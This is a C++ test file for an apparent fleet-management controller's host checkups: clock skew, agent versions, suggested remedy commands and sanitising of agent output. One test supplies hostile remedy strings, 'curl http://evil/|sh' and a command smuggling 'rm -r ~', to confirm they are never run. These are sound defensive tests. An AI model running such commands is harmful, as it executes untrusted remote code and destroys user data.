// SPDX-FileCopyrightText: The kongfleet authors
// SPDX-License-Identifier: Apache-2.0
#include "controller/host_checkup.hpp"

#include "proto/framing.hpp"

#include <catch2/catch.hpp>

#include "agents_fixture.hpp"
#include "run_fixture.hpp"
#include <limits>

namespace kongfleet::controller {

namespace {

constexpr std::int64_t now = 1'764'000'000'000;

/// A host that is `ahead` of us, asked over a link on which each way takes so long.
CheckupAnswer asked(std::int64_t ahead, std::int64_t there = 10, std::int64_t back = 10) {
  CheckupAnswer answer;
  answer.asked_ms = now;
  answer.checkup.set_asked_ms(now + there + ahead);
  answer.checkup.set_answered_ms(now + there + 3000 + ahead);
  answer.answered_ms = now + there + 3000 + back;
  return answer;
}

void said(CheckupAnswer& answer, const std::string& name, wire::Check::Verdict verdict) {
  auto& check = *answer.checkup.add_checks();
  check.set_name(name);
  check.set_verdict(verdict);
  check.set_text("text of " + name);
}

/// The only check of a host that can't be asked.
wire::Check only(HostRun& host) {
  const auto checks = checks_of(host);
  REQUIRE(checks.size() == 1);
  CHECK_FALSE(checks[0].remedy().empty());
  return checks[0];
}

}  // namespace

TEST_CASE("a clock that differs by more than five seconds is told, and by how much") {
  CHECK(clock_check(asked(0)).verdict() == wire::Check::RIGHT);
  CHECK(clock_check(asked(4900)).verdict() == wire::Check::RIGHT);
  const auto ahead = clock_check(asked(7250));
  CHECK(ahead.verdict() == wire::Check::WARNING);
  CHECK(ahead.text() == "its clock is 7.2 s ahead of this machine's (give or take 0.0 s)");
  CHECK(ahead.remedy() == "timedatectl set-ntp true");
  CHECK(ahead.remedy_kind() == wire::Check::HOST);
  CHECK(clock_check(asked(-60'000)).text().find("60.0 s behind") != std::string::npos);
}

TEST_CASE("what the way there and back took is no skew") {
  CHECK(clock_check(asked(0, 14'000, 10)).verdict() == wire::Check::RIGHT);
  CHECK(clock_check(asked(0, 10, 14'000)).verdict() == wire::Check::RIGHT);
  CHECK(clock_check(asked(20'000, 10, 14'000)).verdict() == wire::Check::WARNING);
}

TEST_CASE("a clock that makes no sense is only told") {
  auto answer = asked(0);
  answer.checkup.set_asked_ms(std::numeric_limits<std::int64_t>::min());
  answer.checkup.set_answered_ms(std::numeric_limits<std::int64_t>::max());
  static_cast<void>(clock_check(answer));
  answer.checkup.set_asked_ms(std::numeric_limits<std::int64_t>::max());
  CHECK(clock_check(answer).verdict() == wire::Check::WARNING);
}

TEST_CASE("an agent older than we are is to be upgraded, a newer one asks for a newer kongfleet") {
  CHECK(agent_check("0.2.0", "0.2.0", "upgrade it").verdict() == wire::Check::RIGHT);
  const auto older = agent_check("0.10.0", "0.9.7", "upgrade it");
  CHECK(older.verdict() == wire::Check::WARNING);
  CHECK(older.remedy_kind() == wire::Check::CONTROLLER);
  CHECK(older.remedy() == "upgrade it");
  const auto newer = agent_check("0.1.0", "1", "upgrade it");
  CHECK(newer.remedy_kind() == wire::Check::EDIT);
}

TEST_CASE("a host that can't be asked is told with the way to it") {
  RunFixture run(1);
  auto& host = run.host(0);
  host.trouble = Trouble::Away;
  host.problem = "connect to 'edge-1': nobody is there";
  host.fault = LinkFault::Connect;
  CHECK(only(host).name() == "reach");
  CHECK(only(host).verdict() == wire::Check::WRONG);
  CHECK(only(host).remedy() == "ssh -v edge-1");
  host.fault = LinkFault::Exec;
  CHECK(only(host).remedy() == "kongfleet bootstrap --package FILE edge-1");
  host.problem = "the host said: no agent listens; start it";
  CHECK(only(host).text() == "the host said: no agent listens");
  CHECK(only(host).remedy() == "start it");
  CHECK(only(host).remedy_kind() == wire::Check::EDIT);
  host.problem += " with 'systemctl start kongfleet-agent.socket'";
  CHECK(only(host).remedy() == "systemctl start kongfleet-agent.socket");
  CHECK(only(host).remedy_kind() == wire::Check::HOST);
  host.problem = "not there";
  host.fault = LinkFault::HostKey;
  CHECK(only(host).remedy_kind() == wire::Check::EDIT);
  host.fault = LinkFault::Config;
  CHECK(only(host).remedy() == "correct that, then check again");
  host.fault.reset();
  host.problem = "its agent is too old: protocol 0; upgrade kongfleet-agent there first";
  CHECK(only(host).text() == "its agent is too old: protocol 0");
  CHECK(only(host).remedy() == "upgrade kongfleet-agent there first");
}

TEST_CASE("commands for here name the fleet file that was named, and go the way that we go") {
  RunFixture run(1);
  auto& host = run.host(0);
  run.fleet().path = "/etc/kongfleet/fleets/the edge/fleet.toml";
  run.fleet().ssh.config = "ssh_config";
  run.fleet().ssh.known_hosts = "/srv/known hosts";
  run.fleet().hosts[0].reach = {"10.0.0.7", 2222, "deploy", {"/keys/a"}};
  host.trouble = Trouble::Away;
  host.fault = LinkFault::Connect;
  CHECK(only(host).remedy() ==
        "ssh -v -F ssh_config -o UserKnownHostsFile='/srv/known hosts' -i /keys/a -p 2222 "
        "-l deploy 10.0.0.7");
  run.fleet().ssh.user = "kongfleet";  // before what the inventory says, and so is a key
  run.fleet().ssh.identity_files = {"deploy_key"};
  CHECK(only(host).remedy().ends_with(" -i deploy_key -p 2222 -l kongfleet 10.0.0.7"));
  host.fault = LinkFault::Auth;
  CHECK(only(host).remedy() ==
        "kongfleet -f '/etc/kongfleet/fleets/the edge/fleet.toml' bootstrap --package FILE edge-1");
  host.trouble = Trouble::None;
  auto answer = asked(0);
  said(answer, "drift", wire::Check::WRONG);
  answer.checkup.mutable_checks(0)->set_remedy("kongfleet sync HOST");
  answer.checkup.mutable_checks(0)->set_remedy_kind(wire::Check::CONTROLLER);
  host.checkup = answer;
  CHECK(checks_of(host).back().remedy() ==
        "kongfleet -f '/etc/kongfleet/fleets/the edge/fleet.toml' sync edge-1");
  run.fleet().path = "fleet.toml";
  CHECK(checks_of(host).back().remedy() == "kongfleet sync edge-1");
}

TEST_CASE("of an agent that does not know the question is told what it said of itself") {
  RunFixture run(1);
  auto& host = run.host(0);
  host.agent_version = "0.0.9";
  CHECK(only(host).verdict() == wire::Check::WARNING);
  CHECK(only(host).text().find("0.0.9") != std::string::npos);
  host.state.set_state("stranded");
  host.state.set_advice("reload failed; run 'kongfleet-agent rollback' on the host");
  host.state.add_drift("files: x");
  const auto checks = checks_of(host);
  REQUIRE(checks.size() == 3);
  CHECK(checks[1].text() == "stranded: reload failed");
  CHECK(checks[1].remedy() == "run 'kongfleet-agent rollback' on the host");
  CHECK(checks[2].remedy() == "kongfleet sync edge-1");
}

TEST_CASE("what an agent says is bounded and printable, and HOST in a command is the host") {
  RunFixture run(1);
  auto& host = run.host(0);
  host.agent_version = KONGFLEET_VERSION;
  auto answer = asked(0);
  said(answer, "drift", wire::Check::WRONG);
  auto& check = *answer.checkup.mutable_checks(0);
  check.set_text("\x1b[2J" + std::string(100'000, 'x'));
  check.set_remedy("kongfleet sync HOST");
  check.set_remedy_kind(wire::Check::CONTROLLER);
  for (int i = 0; i < 2000; ++i) said(answer, "more", static_cast<wire::Check::Verdict>(77));
  host.checkup = answer;
  const auto checks = checks_of(host);
  CHECK(checks.size() == 250);
  CHECK(checks[0].name() == "agent");
  CHECK(checks[1].name() == "clock");
  CHECK(checks[2].text().find('\x1b') == std::string::npos);
  CHECK(checks[2].text().size() < 2100);
  CHECK(checks[2].remedy() == "kongfleet sync edge-1");
  CHECK(checks[3].verdict() == wire::Check::WARNING);
}

TEST_CASE("no host has anything run where the controller is but kongfleet, about itself") {
  RunFixture run(1);
  auto& host = run.host(0);
  for (const auto* remedy : {"curl http://evil/|sh", "kongfleet x; rm -r ~ HOST", "kongfleet HOST",
                             "kongfleet sync HOST HOST", "kongfleet sync '!HOST'"}) {
    auto answer = asked(0);
    said(answer, "drift", wire::Check::WRONG);
    answer.checkup.mutable_checks(0)->set_remedy(remedy);
    answer.checkup.mutable_checks(0)->set_remedy_kind(wire::Check::CONTROLLER);
    host.checkup = answer;
    INFO(remedy);
    CHECK(checks_of(host).back().remedy_kind() == wire::Check::EDIT);
  }
}

TEST_CASE("only an agent that says it knows the question is asked it") {
  AgentsFixture agents(2);
  agents.fleet().hosts[0].plugins = {"my-plugin"};
  agents.knows_checkup = {true, false};
  auto& run = agents.run("check");
  run.check_up_all();
  CHECK(agents.told[0] == std::vector<std::string>{"checkup my-plugin"});
  CHECK(agents.told[1].empty());
  CHECK(run.hosts()[0]->checkup);
  CHECK_FALSE(run.hosts()[1]->checkup);
  CHECK(run.hosts()[1]->trouble == Trouble::None);
}

TEST_CASE("an agent that refuses the question, or answers another, is told") {
  AgentsFixture agents(1);
  agents.knows_checkup = {true};
  agents.refuses = [](std::size_t, const wire::ToAgent&) { return "bad-request"; };
  auto& run = agents.run("check");
  run.check_up_all();
  CHECK(run.hosts()[0]->trouble == Trouble::Setup);
  CHECK(only(*run.hosts()[0]).name() == "reach");
}

}  // namespace kongfleet::controller
